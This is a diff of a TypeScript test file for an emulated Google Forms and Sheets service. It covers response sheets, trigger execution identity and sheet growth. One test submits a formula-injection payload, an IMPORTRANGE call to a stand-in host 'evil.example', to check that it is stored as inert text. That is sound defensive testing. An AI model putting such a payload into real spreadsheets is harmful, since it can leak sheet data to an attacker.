@@ -1,11 +1,11 @@
 import { AuthMode, FormSubmitHandlerError, type FormSubmitEvent } from '../../../src/local/services';
-import { setup } from './setup';
+import { addSpreadsheet, contents, setup, sheetNames } from './setup';
 
 /** A published orders form linked to spreadsheet `ledger`, with an installed submit trigger. */
 function ordersForm() {
   const env = setup();
   const { services, spreadsheets } = env;
-  const ledger = spreadsheets.add('ledger', 'America/New_York');
+  const ledger = addSpreadsheet(spreadsheets, 'ledger', 'America/New_York');
   const form = services.FormApp.create('Turn 3 orders');
   form.setDescription('Secret orders').setConfirmationMessage('Orders received.').setCollectEmail(true);
   form.addParagraphTextItem().setTitle('Player').setRequired(true);
@@ -53,21 +53,21 @@ describe('FormApp forms', () => {
   test('setDestination adds a first tab "Form Responses N" with the header row', () => {
     const { form, ledger, services } = ordersForm();
     expect(form.getDestinationId()).toBe('ledger');
-    expect(ledger.sheets.map((s) => s.name)).toEqual(['Form Responses 1', 'Sheet1']);
-    expect(ledger.sheet('Form Responses 1').dump()).toEqual([
+    expect(sheetNames(ledger)).toEqual(['Form Responses 1', 'Sheet1']);
+    expect(contents(ledger, 'Form Responses 1')).toEqual([
       ['Timestamp', 'Email Address', 'Player', 'Orders'],
     ]);
-    expect(ledger.sheet('Form Responses 1').frozenRows).toBe(1);
+    expect(ledger.getSheetByName('Form Responses 1')?.getFrozenRows()).toBe(1);
     const other = services.FormApp.create('Other');
     other.addParagraphTextItem().setTitle('Q');
     other.setDestination(services.FormApp.DestinationType.SPREADSHEET, 'ledger');
-    expect(ledger.sheets.map((s) => s.name)).toEqual(['Form Responses 2', 'Form Responses 1', 'Sheet1']);
-    expect(ledger.sheet('Form Responses 2').dump()).toEqual([['Timestamp', 'Q']]);
+    expect(sheetNames(ledger)).toEqual(['Form Responses 2', 'Form Responses 1', 'Sheet1']);
+    expect(contents(ledger, 'Form Responses 2')).toEqual([['Timestamp', 'Q']]);
   });
 });
 
 describe('FormApp.submit (emulation only)', () => {
-  test('appends the row and fires the trigger as the respondent with a Google-shaped event', () => {
+  test('appends the row and fires the trigger as its owner (not the respondent) with a Google-shaped event', () => {
     const { world, services, globals, ledger, form } = ordersForm();
     const events: { event: FormSubmitEvent; user: string; execution: number }[] = [];
     globals.set('onOrders', (e) => {
@@ -85,11 +85,17 @@ describe('FormApp.submit (emulation only)', () => {
 
     expect(result.row).toBe(2);
     expect(result.runs).toEqual([expect.objectContaining({ handler: 'onOrders', ok: true })]);
-    const sheet = ledger.sheet('Form Responses 1');
-    expect(sheet.dump()[1]).toEqual([new Date('2026-03-01T12:00:00Z'), 'red@example.com', 'Red', 'A1 -> B2']);
+    expect(contents(ledger, 'Form Responses 1')[1]).toEqual([
+      new Date('2026-03-01T12:00:00Z'),
+      'red@example.com',
+      'Red',
+      'A1 -> B2',
+    ]);
     expect(events).toHaveLength(1);
     const { event, user, execution } = events[0];
-    expect(user).toBe('red@example.com');
+    // Google runs an installable trigger as the user who installed it; the respondent is only in the row.
+    expect(user).toBe(services.ScriptApp.allTriggers[0].owner);
+    expect(user).not.toBe('red@example.com');
     expect(execution).toBeGreaterThan(0);
     expect(event.authMode).toBe(AuthMode.FULL);
     expect(event.values).toEqual(['3/1/2026 7:00:00', 'red@example.com', 'Red', 'A1 -> B2']); // ledger is in New York
@@ -119,8 +125,7 @@ describe('FormApp.submit (emulation only)', () => {
     const evil = '=IMPORTRANGE("https://evil.example/x","A1")';
     services.FormApp.submit(form.getId(), 'mallory@example.com', { Player: "'Mallory", Orders: evil });
     services.FormApp.submit(form.getId(), 'mallory@example.com', { Player: '12', Orders: 'TRUE' });
-    const sheet = ledger.sheet('Form Responses 1');
-    const rows = sheet.getRange(2, 1, 2, 4);
+    const rows = ledger.getSheetByName('Form Responses 1')!.getRange(2, 1, 2, 4);
     expect(rows.getFormulas()).toEqual([
       ['', '', '', ''],
       ['', '', '', ''],
@@ -169,7 +174,7 @@ describe('FormApp.submit (emulation only)', () => {
     expect(submit).toThrow(FormSubmitHandlerError);
     expect(submit).toThrow('Form-submit handler failed: onOrders: ledger is locked');
     expect(ran).toEqual(['audit', 'audit']);
-    expect(ledger.sheet('Form Responses 1').dump()).toHaveLength(3);
+    expect(contents(ledger, 'Form Responses 1')).toHaveLength(3);
     const quiet = services.FormApp.submit(
       form.getId(),
       'red@example.com',
@@ -184,9 +189,34 @@ describe('FormApp.submit (emulation only)', () => {
     globals.set('onOrders', () => undefined);
     form.addParagraphTextItem().setTitle('Notes');
     services.FormApp.submit(form.getId(), 'red@example.com', { Player: 'Red', Orders: 'o', Notes: 'n' });
-    const rows = ledger.sheet('Form Responses 1').dump();
+    const rows = contents(ledger, 'Form Responses 1');
     expect(rows[0]).toEqual(['Timestamp', 'Email Address', 'Player', 'Orders', 'Notes']);
     expect(rows[1].slice(2)).toEqual(['Red', 'o', 'n']);
+  });
+
+  test('the responses sheet grows past its grid: more questions than columns, more answers than rows', () => {
+    const { services, spreadsheets, globals } = setup();
+    globals.set('onOrders', () => undefined);
+    const ledger = addSpreadsheet(spreadsheets, 'ledger');
+    const form = services.FormApp.create('Long survey');
+    const titles = Array.from({ length: 30 }, (_, i) => `Q${i + 1}`);
+    titles.forEach((title) => form.addParagraphTextItem().setTitle(title));
+    form.setDestination(services.FormApp.DestinationType.SPREADSHEET, 'ledger');
+    form.setPublished(true);
+    expect(contents(ledger, 'Form Responses 1')).toEqual([['Timestamp', ...titles]]);
+
+    // A moderator trimmed the sheet to its header row and cleared it: answers still land, header first.
+    const sheet = ledger.getSheetByName('Form Responses 1')!;
+    sheet.deleteRows(2, sheet.getMaxRows() - 1);
+    sheet.getRange(1, 1, 1, sheet.getMaxColumns()).clearContent();
+    const result = services.FormApp.submit(form.getId(), 'red@example.com', { Q1: 'a', Q30: 'z' });
+    expect(result.row).toBe(2);
+    expect(services.FormApp.submit(form.getId(), 'red@example.com', { Q2: 'b' }).row).toBe(3);
+    const rows = contents(ledger, 'Form Responses 1');
+    expect(rows).toHaveLength(3);
+    expect(rows[0]).toEqual(['Timestamp', ...titles]);
+    expect(rows[1].slice(1)).toEqual(titles.map((t) => (t === 'Q1' ? 'a' : t === 'Q30' ? 'z' : '')));
+    expect(rows[2][2]).toBe('b');
   });
 
   test('the emulation’s own spreadsheet work is not counted as the script’s calls', () => {
